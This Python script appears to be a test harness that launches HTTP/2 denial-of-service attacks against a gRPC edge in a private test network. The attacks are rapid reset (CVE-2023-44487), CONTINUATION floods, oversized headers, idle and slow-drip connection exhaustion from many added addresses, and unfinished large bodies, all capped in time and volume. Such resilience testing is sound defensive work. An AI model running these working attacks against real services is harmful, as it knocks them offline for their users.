"""Callers that mean harm. Runs beside the composed system, in a container with an address of its own:

    attacks.py KIND HOST PORT SECONDS CERTIFICATES

Only addresses of private networks are attacked, for SECONDS at most, and within the counts below.
Prints what it did as one line of JSON.
"""

import collections
import contextlib
import ipaddress
import json
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from h2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, length, literal

CONTINUATION = 9
CANCEL = struct.pack(">I", 8)

SECONDS_MAX = 60
# The edge forgets connections after ten seconds.
FORGOTTEN_SECONDS = 40
TIMEOUT_SECONDS = 5
STREAMS_MAX = 400_000
BYTES_MAX = 1 << 30
CONNECTIONS_MAX = 60_000
# Beyond what one address may have at the edge, and what one connection may have of streams.
SLOW_CONNECTIONS = 60
SLOW_STREAMS = 100
# Each takes half of what one address may have at the edge; together more than the edge has.
ADDRESSES = 60
IDLE_PER_ADDRESS = 25
# Each stays below what one address may have, and open in a while; together they want more than the edge has.
SLOW_ADDRESSES = 30
SLOW_PER_ADDRESS = 36
SLOW_OPENED_PER_SECOND = 4
# Bodies that want for their last byte, as large as a message may be, as many as one system may have under way.
LARGE_CONNECTIONS = 5
LARGE_STREAMS = 20
LARGE_BYTES = 4 << 20
FRAME_BYTES = 16_384


def call(path=b"/dondoc.registry.v1.RegistryService/ListTasks"):
    """The headers of a call."""
    return (b"\x83\x87" + b"\x04" + length(path) + path + b"\x01" + length(b"edge") + b"edge"
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Attack:
    """Where it goes, until when, and what it counts."""

    def __init__(self, host, port, seconds, certificates):
        self.address = (socket.gethostbyname(host), port)
        if not ipaddress.ip_address(self.address[0]).is_private:
            raise SystemExit(f"{host} is not of a private network")
        self.deadline = time.monotonic() + min(seconds, SECONDS_MAX)
        self.context = ssl.create_default_context(cafile=f"{certificates}/ca.pem")
        self.context.set_alpn_protocols(["h2"])
        self.context.load_cert_chain(f"{certificates}/certificate.pem",
                                     f"{certificates}/certificate.key")
        self.counts = dict.fromkeys(("connections", "refused", "streams", "bytes", "held"), 0)
        self.streams_by_second = collections.Counter()
        self.lock = threading.Lock()

    def count(self, **more):
        """Adds to the counts."""
        with self.lock:
            for name, value in more.items():
                self.counts[name] += value
            self.streams_by_second[int(time.monotonic())] += more.get("streams", 0)

    def goes_on(self):
        """Whether there is time and the counts are within bounds."""
        return (time.monotonic() < self.deadline and self.counts["streams"] < STREAMS_MAX
                and self.counts["bytes"] < BYTES_MAX
                and self.counts["connections"] < CONNECTIONS_MAX)

    def begin_as_a_stranger(self, seconds):
        """Begins when the edge lets us in, as it does with whoever has not been here for a while; then it goes on for
        so long."""
        patience = time.monotonic() + FORGOTTEN_SECONDS
        while True:
            try:
                with self.open() as connected:
                    if connected.recv(1):
                        break
            except OSError:
                pass
            if time.monotonic() > patience:
                raise SystemExit("the edge does not let us in")
            # Asking oftener would make it remember.
            time.sleep(1)
        self.counts = dict.fromkeys(self.counts, 0)
        self.streams_by_second.clear()
        self.deadline = time.monotonic() + min(seconds, SECONDS_MAX)

    def open(self, source="", settings=b""):
        """A connection that has begun HTTP/2, from one of our addresses."""
        plain = socket.create_connection(self.address, timeout=TIMEOUT_SECONDS, source_address=(source, 0))
        self.count(connections=1)
        try:
            connected = self.context.wrap_socket(plain, server_hostname="edge")
            connected.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        except BaseException:
            plain.close()
            raise
        return connected

    @contextlib.contextmanager
    def connection(self):
        """The same, until it is left."""
        with self.open() as connected:
            yield connected

    def send(self, connected, data, streams=0):
        """Throws away what came, sends, and counts."""
        connected.settimeout(0)
        with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
            while connected.recv(65_536):
                pass
            raise ConnectionError("the edge hung up")
        connected.settimeout(TIMEOUT_SECONDS)
        connected.sendall(data)
        self.count(bytes=len(data), streams=streams)

    def again_and_again(self, once):
        """Begins anew whenever the edge hangs up."""
        while self.goes_on():
            try:
                once()
            except OSError:
                self.count(refused=1)
                # A refused connection costs the attacker a millisecond, as one from afar would.
                time.sleep(0.001)


def in_threads(target, arguments):
    """Runs the target with each of these arguments at once, to their end."""
    threads = [threading.Thread(target=target, args=of_one) for of_one in arguments]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def resets(attack):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    headers = call()

    def once():
        with attack.connection() as connected:
            stream = 1
            while attack.goes_on():
                batch = b"".join(frame(HEADERS, END_HEADERS, number, headers)
                                 + frame(RST_STREAM, 0, number, CANCEL)
                                 for number in range(stream, stream + 200, 2))
                attack.send(connected, batch, streams=100)
                stream += 200

    attack.again_and_again(once)


def continuations(attack):
    """Headers that never end (CVE-2023-33953, CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, literal(b"x-filler", b"a" * 8_000))

    def once():
        with attack.connection() as connected:
            attack.send(connected, frame(HEADERS, 0, 1, call()), streams=1)
            while attack.goes_on():
                attack.send(connected, more)

    attack.again_and_again(once)


def headers_too_large(attack):
    """Whole headers of 8 KiB to 1 MiB, in one field and in many."""
    sizes = (8_000, 14_000, 64_000, 1 << 20)

    def request(stream, block):
        out = frame(HEADERS, END_STREAM, stream, block[:16_000])
        parts = [block[at:at + 16_000] for at in range(16_000, len(block), 16_000)] or [b""]
        for part in parts[:-1]:
            out += frame(CONTINUATION, 0, stream, part)
        return out + frame(CONTINUATION, END_HEADERS, stream, parts[-1])

    def once():
        with attack.connection() as connected:
            stream = 1
            for size in sizes:
                one = call() + literal(b"x-large", b"a" * size)
                many = call() + b"".join(literal(b"x-%d" % number, b"a" * 40)
                                         for number in range(size // 40))
                for block in (one, many):
                    attack.send(connected, request(stream, block), streams=1)
                    stream += 2

    attack.again_and_again(once)


def idle(attack):
    """Connections that say nothing, as many as one address can open."""
    held = []
    while attack.goes_on():
        try:
            held.append(socket.create_connection(attack.address, timeout=1))
            attack.count(connections=1)
        except OSError:
            attack.count(refused=1)
            # What the edge has ended already makes room for more.
            for connected in held[:1_000]:
                connected.close()
            del held[:1_000]
    attack.counts["held"] = len(held)


def more_addresses(count=ADDRESSES):
    """Takes addresses at the end of the container's own network."""
    known = subprocess.run(("ip", "-j", "-4", "addr", "show", "dev", "eth0"), check=True,
                           capture_output=True)
    own = json.loads(known.stdout)[0]["addr_info"][0]
    network = ipaddress.ip_interface(f"{own['local']}/{own['prefixlen']}").network
    addresses = [str(network.broadcast_address - 1 - number) for number in range(count)]
    for address in addresses:
        subprocess.run(("ip", "addr", "add", f"{address}/{network.prefixlen}", "dev", "eth0"),
                       check=True)
    return addresses


def idle_from_many(attack):
    """Connections that say nothing, from many addresses, more together than the edge takes."""
    held = []
    for source in more_addresses():
        for _ in range(IDLE_PER_ADDRESS):
            try:
                held.append(socket.create_connection(attack.address, timeout=1,
                                                     source_address=(source, 0)))
                attack.count(connections=1)
            except OSError:
                attack.count(refused=1)
    attack.counts["held"] = len(held)
    time.sleep(max(0.0, attack.deadline - time.monotonic()))


def slow(attack):
    """Callers that speak a byte at a time: in TLS, in their headers, in their bodies."""
    greeting = b"\x16\x03\x01\x02\x00"

    def drip(connected, data):
        for at in range(len(data)):
            if not attack.goes_on():
                return
            attack.send(connected, data[at:at + 1])
            time.sleep(0.5)

    def in_tls():
        with socket.create_connection(attack.address, timeout=TIMEOUT_SECONDS) as connected:
            attack.count(connections=1)
            drip(connected, greeting * 100)

    def in_headers():
        with attack.connection() as connected:
            drip(connected, frame(HEADERS, END_HEADERS, 1, call()))

    def in_bodies():
        with attack.connection() as connected:
            streams = range(1, 2 * SLOW_STREAMS, 2)
            attack.send(connected, b"".join(frame(HEADERS, END_HEADERS, number, call())
                                            for number in streams), streams=SLOW_STREAMS)
            while attack.goes_on():
                attack.send(connected, b"".join(frame(DATA, 0, number, b"\x00")
                                                for number in streams))
                time.sleep(0.5)

    # So that what is refused is not asked for a thousand times a second: these are slow.
    def slowly(once):
        with contextlib.suppress(OSError):
            once()
        time.sleep(0.5)

    kinds = (in_tls, in_headers, in_bodies)
    in_threads(attack.again_and_again,
               [(lambda once=kinds[number % 3]: slowly(once),) for number in range(SLOW_CONNECTIONS)])


class SlowCaller:
    """One of many at one address, slow in one of five ways."""

    # Bytes of TLS, of headers and of a body one at a time; answers that nobody reads; calls long past.
    WAYS = ("tls", "headers", "body", "unread", "past")

    def __init__(self, attack, source, way):
        self.attack = attack
        self.way = way
        # No byte of a body may come back before we say so, which we do not.
        settings = struct.pack(">HI", 4, 0) if way == "unread" else b""
        if way == "tls":
            self.socket = socket.create_connection(attack.address, timeout=TIMEOUT_SECONDS, source_address=(source, 0))
            attack.count(connections=1)
        else:
            self.socket = attack.open(source, settings)
        self.rest = b"\x16\x03\x01\x02\x00" * 100 if way == "tls" else frame(HEADERS, END_HEADERS, 1, call())
        if way == "body":
            self._send(self.rest)
            self.rest = frame(DATA, 0, 1, b"\x00") * 1_000
        elif way == "unread":
            self.socket.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, call())
                                         + frame(DATA, END_STREAM, stream, bytes(5)) for stream in (1, 3, 5)))
        elif way == "past":
            self._send(frame(HEADERS, END_HEADERS | END_STREAM, 1, call(b"/dondoc.nowhere.v1.NoService/Nothing")))

    def _send(self, data):
        self.attack.send(self.socket, data, streams=1)

    def drip(self):
        """Says the next byte. OSError when the edge has hung up."""
        if self.way in ("tls", "headers", "body"):
            size = len(frame(DATA, 0, 1, b"\x00")) if self.way == "body" else 1
            data, self.rest = self.rest[:size], self.rest[size:]
            self.attack.send(self.socket, data)
        elif self.way == "past":
            self.attack.send(self.socket, b"")


def slow_from_many(attack):
    """Slow callers from many addresses at once, each below what one address may."""
    def of_one(source):
        held, opened = [], 0
        began = time.monotonic()
        while attack.goes_on():
            if len(held) < SLOW_PER_ADDRESS and opened < SLOW_OPENED_PER_SECOND * (time.monotonic() - began):
                opened += 1
                try:
                    held.append(SlowCaller(attack, source, SlowCaller.WAYS[opened % len(SlowCaller.WAYS)]))
                except OSError:
                    attack.count(refused=1)
                continue
            for caller in held[:]:
                try:
                    caller.drip()
                except OSError:
                    attack.count(refused=1)
                    caller.socket.close()
                    held.remove(caller)
            time.sleep(0.5)
        attack.count(held=len(held))

    in_threads(of_one, [(source,) for source in more_addresses(SLOW_ADDRESSES)])


def large_bodies(attack):
    """Messages as large as any may be, all but the last byte of each."""
    head = b"\x00" + struct.pack(">I", LARGE_BYTES)
    rest = bytes(LARGE_BYTES - 1)
    chunks = [rest[at:at + FRAME_BYTES - 5] for at in range(0, len(rest), FRAME_BYTES - 5)]

    def once():
        with attack.connection() as connected:
            streams = range(1, 2 * LARGE_STREAMS, 2)
            for stream in streams:
                attack.send(connected, frame(HEADERS, END_HEADERS, stream, call()) + frame(DATA, 0, stream, head)
                            + b"".join(frame(DATA, 0, stream, chunk) for chunk in chunks[:2]), streams=1)
            for stream in streams:
                for chunk in chunks[2:]:
                    attack.send(connected, frame(DATA, 0, stream, chunk))
            attack.count(held=LARGE_STREAMS)
            while attack.goes_on():
                attack.send(connected, b"")
                time.sleep(0.5)

    in_threads(attack.again_and_again, [(once,)] * LARGE_CONNECTIONS)


KINDS = {
    "resets": resets,
    "continuations": continuations,
    "headers": headers_too_large,
    "idle": idle,
    "idle-from-many": idle_from_many,
    "slow": slow,
    "slow-from-many": slow_from_many,
    "large": large_bodies,
}


def main(kind, host, port, seconds, certificates):
    """Attacks, and tells."""
    attack = Attack(host, int(port), float(seconds), certificates)
    attack.begin_as_a_stranger(float(seconds))
    KINDS[kind](attack)
    print(json.dumps({**attack.counts, "streams_in_a_second": max(attack.streams_by_second.values(), default=0)}))


if __name__ == "__main__":
    main(*sys.argv[1:])
